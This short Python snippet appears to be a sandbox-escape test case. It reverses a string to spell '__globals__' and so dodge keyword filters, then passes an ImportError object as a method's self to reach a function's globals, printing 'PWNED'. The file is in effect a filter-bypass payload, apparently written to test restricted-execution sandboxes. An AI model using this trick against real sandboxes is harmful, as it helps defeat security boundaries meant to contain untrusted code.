# own method with a library's error as self, by next iter table
def f():
    pass


H = "".join(reversed("__slabolg__"))


class Row:
    name = ("x",)
    x = 1

    def show(self):
        return [getattr(f, n, None) for n in self.name]


print("PWNED", len(next(iter([Row])).show(ImportError(name=[H]))[0]))
